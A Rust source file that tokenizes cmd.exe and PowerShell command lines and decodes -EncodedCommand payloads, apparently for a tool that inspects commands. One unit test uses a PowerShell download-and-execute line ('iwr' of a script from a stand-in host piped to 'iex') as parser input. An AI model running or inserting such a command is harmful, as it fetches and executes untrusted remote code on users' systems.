//! Command lines of `cmd` and of PowerShell: no library keeps places here, and only their words and separators are needed.

use crate::prelude::*;
use crate::text::Located;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// The dialects.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Dialect {
    /// `cmd.exe`: double quotes, `&`, `&&`, `|`.
    Cmd,
    /// PowerShell: both quotes, `;`, `&&`, `|`; `&` calls what follows.
    PowerShell,
}

/// The commands of a line, with whether each is piped into the next.
pub(super) fn commands(source: &str, line: &Located, dialect: Dialect) -> Vec<(Vec<Located>, bool)> {
    let mut out = Vec::new();
    let mut words: Vec<Located> = Vec::new();
    let mut quote: Option<char> = None;
    let mut start: Option<usize> = None;
    let text = &line.text;
    let finish = |start: &mut Option<usize>, end: usize, words: &mut Vec<Located>| {
        if let Some(from) = start.take() {
            words.push(word(source, line, from, end));
        }
    };
    for (at, c) in text.char_indices() {
        let separator = match (quote, c) {
            (Some(open), c) if c == open => {
                quote = None;
                continue;
            }
            (Some(_), _) => continue,
            (None, '"') => {
                quote = Some(c);
                start.get_or_insert(at);
                continue;
            }
            (None, '\'') if dialect == Dialect::PowerShell => {
                quote = Some(c);
                start.get_or_insert(at);
                continue;
            }
            (None, '&' | '|') => true,
            (None, ';') => dialect == Dialect::PowerShell,
            (None, '(') if dialect == Dialect::PowerShell && start.is_none() => true,
            (None, ')') if dialect == Dialect::PowerShell => true,
            // A block's braces; those of `${name}` belong to the word.
            (None, '{') if dialect == Dialect::PowerShell && start.is_none() => true,
            (None, '}') if dialect == Dialect::PowerShell => {
                let word = start.and_then(|from| text.get(from..at)).unwrap_or_default();
                word.matches("${").count() <= word.matches('}').count()
            }
            (None, c) if c.is_whitespace() => {
                finish(&mut start, at, &mut words);
                continue;
            }
            (None, _) => false,
        };
        if separator {
            finish(&mut start, at, &mut words);
            if !words.is_empty() {
                out.push((core::mem::take(&mut words), c == '|'));
            }
        } else {
            start.get_or_insert(at);
        }
    }
    finish(&mut start, text.len(), &mut words);
    if !words.is_empty() {
        out.push((words, false));
    }
    out
}

fn word(source: &str, line: &Located, from: usize, to: usize) -> Located {
    let raw = line.text.get(from..to).unwrap_or_default();
    let bare = raw.replace('"', "");
    let bare = if raw.starts_with('\'') { bare.trim_matches('\'').to_owned() } else { bare };
    let quoted = raw.len() >= 2 && raw.get(1..raw.len() - 1) == Some(bare.as_str());
    if quoted { line.part(source, from + 1..to - 1) } else { line.part(source, from..to).with_text(bare) }
}

/// The text of `-EncodedCommand`: base64 of UTF-16 in little-endian order.
pub(super) fn decode_command(encoded: &str) -> Option<String> {
    let bytes = STANDARD.decode(encoded.trim()).ok()?;
    let (pairs, rest) = bytes.as_chunks::<2>();
    if !rest.is_empty() {
        return None;
    }
    char::decode_utf16(pairs.iter().map(|pair| u16::from_le_bytes(*pair))).collect::<Result<String, _>>().ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::{Pointer, Span};

    fn run(line: &str, dialect: Dialect) -> Vec<String> {
        let located = Located { text: line.into(), span: Span::new(0, line.len()), pointer: Pointer::root() };
        commands(line, &located, dialect)
            .iter()
            .map(|(words, piped)| {
                let words: Vec<_> = words.iter().map(|w| w.text.as_str()).collect();
                format!("{}{}", words.join("·"), if *piped { "|" } else { "" })
            })
            .collect()
    }

    #[test]
    fn both_dialects_are_split() {
        assert_eq!(run(r#"npx -y "a b" && set X=1"#, Dialect::Cmd), ["npx·-y·a b", "set·X=1"]);
        assert_eq!(run("it's one", Dialect::Cmd), ["it's·one"]);
        assert_eq!(run("$env:A='x y'; & 'npx' -y t", Dialect::PowerShell), ["$env:A='x y'", "npx·-y·t"]);
        assert_eq!(
            run("iwr https://x.example/i.ps1 | iex", Dialect::PowerShell),
            ["iwr·https://x.example/i.ps1|", "iex"]
        );
        assert_eq!(run("& {npx -y t ${env:A}}", Dialect::PowerShell), ["npx·-y·t·${env:A}"]);
        assert_eq!(run("", Dialect::Cmd), Vec::<String>::new());
        assert_eq!(decode_command("bgBwAHgA").as_deref(), Some("npx"));
        assert_eq!(decode_command("bg"), None);
    }
}
